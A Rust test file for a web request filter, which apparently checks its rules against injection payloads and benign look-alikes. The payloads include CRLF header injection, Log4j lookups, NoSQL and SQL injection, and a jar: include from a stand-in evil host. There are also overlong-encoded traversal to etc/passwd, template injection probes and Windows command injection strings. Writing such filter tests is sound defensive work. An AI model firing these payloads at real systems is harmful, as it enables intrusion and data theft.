//! Round 6 rule tests: the rules added or widened for misses of the independent attack set
//! (`corpus/attacks_wild.jsonl`), each with attacks it must block and benign twins it must
//! pass.

mod common;

use common::{attack, benign};

#[test]
fn crlf_107_any_x_header_or_standard_header_after_a_break() {
    attack("crlf-107", "header", "x-data", "\r\nX-Injected: 1");
    attack("crlf-107", "query", "next", "/home\r\nVary: *");
    attack("crlf-107", "form", "lang", "en\r\nExpires: 0");
    benign(
        "json",
        "note",
        "Call Bob tomorrow\r\nX-ray results are fine",
    );
    benign("json", "note", "Shipping:\r\nServer room B, rack 4");
    benign("form", "comment", "see the X-Forwarded-For header docs");
    // A single line feed inside a note is prose, not a header line.
    benign("json", "note", "Ticket 42\nX-Team: please review");
}

#[test]
fn crlf_108_escaped_and_unicode_line_breaks_before_a_header() {
    attack("crlf-108", "query", "redirect", "\\r\\nSet-Cookie:x=1");
    attack("crlf-108", "form", "name", "\u{2028}Set-Cookie: x=1");
    attack("crlf-108", "query", "lang", "\u{10d}\u{10a}Set-Cookie:x=1");
    benign("json", "snippet", "print(\"a\\nb\")");
    benign("json", "bio", "Klíč Location: Praha");
    benign("json", "city", "Čáslav location: centre");
}

#[test]
fn log4j_106_hostname_lookup() {
    attack("log4j-106", "header", "x-data", "${hostName}");
    attack("log4j-106", "json", "username", "user-${hostName}");
    benign("json", "template", "Deployed on ${HOSTNAME}");
    benign("json", "template", "${host}:${port}");
}

#[test]
fn nosql_102_widened_operator_objects() {
    attack("nosql-102", "cookie", "filter", "{\"$jsonSchema\": {}}");
    attack(
        "nosql-102",
        "form",
        "q",
        "{\"$text\": {\"$search\": \"x\"}}",
    );
    attack("nosql-102", "query", "q", "{\"$type\": 2}");
    benign("json", "q", "price in $ text: {cheap}");
    benign("json", "note", "the $text operator needs an index");
}

#[test]
fn nosql_103_widened_server_side_javascript() {
    attack("nosql-103", "cookie", "q", "1; return this.password");
    attack("nosql-103", "json", "where", "function() { return true; }");
    attack("nosql-103", "form", "q", "mapReduce(function(){emit(1,1)})");
    benign("json", "code", "function() { return x + 1; }");
    benign(
        "json",
        "note",
        "mapReduce is deprecated; return to aggregate",
    );
}

#[test]
fn rfi_111_jar_urls() {
    attack(
        "rfi-111",
        "multipart",
        "include",
        "jAr:hTtP://EvIl.eXaMpLe/x.jAr!/",
    );
    attack("rfi-111", "query", "url", "jar:file:///tmp/x.zip!/a.dtd");
    benign("json", "file", "build/libs/app.jar");
    benign("json", "q", "jar: http client for Java");
}

#[test]
fn rebinding_names_are_internal_targets() {
    common::blocked("query", "url", "http://7f000001.1time.rebind.network/");
    common::blocked("json", "webhook", "http://7f000001.c0a80001.rbndr.us/");
    benign("json", "url", "https://rebind.network.example.com/docs");
    benign("json", "q", "what is DNS rebinding");
}

#[test]
fn four_to_six_byte_overlong_slashes_are_decoded() {
    common::blocked(
        "query_raw",
        "file",
        "file=..%f0%80%80%af..%f0%80%80%afetc%f0%80%80%afpasswd",
    );
    common::blocked(
        "query_raw",
        "file",
        "file=..%f8%80%80%80%af..%f8%80%80%80%afetc%f8%80%80%80%afpasswd",
    );
    // Real 4-byte UTF-8 (emoji, CJK extension B) is untouched.
    benign("query", "q", "rocket \u{1f680} to ../docs");
    benign("json", "name", "\u{20bb7}\u{91ce}\u{5bb6}");
}

#[test]
fn ssti_108_razor_arithmetic_probe() {
    attack("ssti-108", "multipart", "name", "@(1+2)");
    attack("ssti-108", "json", "greeting", "Hello @(7*7)");
    benign("json", "phone", "call @(555) 123-4567");
    benign("json", "note", "ping me @(team-lead)");
}

#[test]
fn cmdi_131_windows_set_a_after_a_separator() {
    attack("cmdi-131", "form", "host", "& set /a 1+1");
    attack("cmdi-131", "query", "ip", "127.0.0.1| set /a 7*7");
    benign("json", "note", "Q&A: set a reminder");
    benign("json", "note", "rock & set /about page");
}

#[test]
fn sqli_139_numeric_value_then_order_by_a_column_number() {
    attack("sqli-139", "query", "id", "1 order by 10");
    attack("sqli-139", "cookie", "id", "1) GROUP BY 3-- -");
    benign("json", "q", "3 orders by 10am");
    benign("json", "q", "1 order by tomorrow please");
}
